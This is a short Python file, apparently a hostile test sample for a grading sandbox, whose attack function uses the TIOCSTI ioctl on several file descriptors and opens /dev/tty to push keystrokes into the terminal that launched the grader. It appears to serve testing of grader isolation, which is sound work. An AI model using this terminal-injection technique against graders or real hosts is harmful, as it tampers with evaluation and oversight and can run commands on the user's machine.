"""Pushes input into the terminal that the grader was started from. Class D89."""

import os
import sys

libc = sys.modules["ctypes"].CDLL(None)


def attack(bait):
    found = [libc.ioctl(number, 0x5412, b"x") for number in range(6)]
    try:
        found.append(os.open("/dev/tty", os.O_RDWR))
    except OSError:
        pass
    return found
